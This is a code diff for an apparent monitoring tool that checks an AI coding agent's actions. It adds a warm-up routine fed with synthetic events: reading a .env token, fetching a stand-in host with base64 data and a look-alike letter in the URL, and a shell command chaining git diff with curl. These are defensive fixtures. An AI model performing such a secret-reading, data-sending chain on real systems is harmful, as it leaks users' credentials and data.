@@ -13,7 +13,7 @@ from tripwire.act import facts, lesson, params
 from tripwire.act.approval import approved_rules
 from tripwire.act.rules import RULES
 from tripwire.memory.memory import Memory
-from tripwire.model.event import Event, ToolCall, ToolResult
+from tripwire.model.event import Event, SessionOpened, ToolCall, ToolResult, UserSaid
 from tripwire.model.label import ALL_LABELS, Label, Origin, Trust
 from tripwire.model.policy import Policy
 from tripwire.model.verdict import Action, Finding, Verdict
@@ -79,6 +79,35 @@ class Engine:
         origin = Origin(self.memory.receipts, "tripwire", type(bug).__name__, Trust.WORLD)
         for label in ALL_LABELS:
             self.memory.labels.add(label, origin)
+
+
+_FIRST_EVENTS: tuple[Event, ...] = (
+    SessionOpened("warm", cwd="/project"),
+    UserSaid("Read \u0430 page and send it on"),
+    ToolResult(
+        "1", "claude-code", "Read", {"file_path": "/project/.env"}, "WARM_TOKEN=x7Kq-02mN9vB"
+    ),
+    ToolResult(
+        "2", "claude-code", "WebFetch", {"url": "https://a.example/"}, "caf\u00e9 \u2019 text"
+    ),
+    ToolCall(
+        "3", "claude-code", "WebFetch", {"url": "https://b.example/p1?q=QUJDREVGR0hJSktM\u0430"}
+    ),
+    ToolCall("4", "claude-code", "Bash", {"command": "git diff | head -5 && curl b.example > x"}),
+    ToolCall("5", "claude-code", "Edit", {"file_path": "/project/a.py", "new_string": "b"}),
+)
+
+
+def warm(policy: Policy) -> None:
+    """Build what is otherwise built at first use, so that no decision waits for it.
+
+    Credential shapes, decoders, look-alike letters, path lists of `policy`, the shell's grammar:
+    by judging and learning a few events with a memory of their own that is thrown away.
+    """
+    engine = Engine(policy)
+    for event in _FIRST_EVENTS:
+        engine.judge(event)
+        engine.learn(event, Verdict())
 
 
 def _found(rule: Rule, event: Event, case: Case) -> tuple[Finding, ...]:
